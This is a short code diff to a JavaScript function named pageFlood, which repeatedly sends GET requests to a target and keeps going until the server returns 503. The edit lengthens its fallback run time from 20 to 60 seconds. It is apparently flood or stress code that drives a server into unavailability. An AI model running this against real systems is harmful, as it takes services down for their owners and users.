@@ -98,7 +98,7 @@ async function pageFlood(target, ms) {
   const began = now();
   const told = new Map();
   const one = async () => {
-    while (now() < began + ms || (!told.has(503) && now() < began + 20_000)) {
+    while (now() < began + ms || (!told.has(503) && now() < began + 60_000)) {
       const { status } = await exchange(target, head(target, 'GET', new URL(script, page).pathname, ['Connection: close']));
       told.set(status, (told.get(status) ?? 0) + 1);
     }
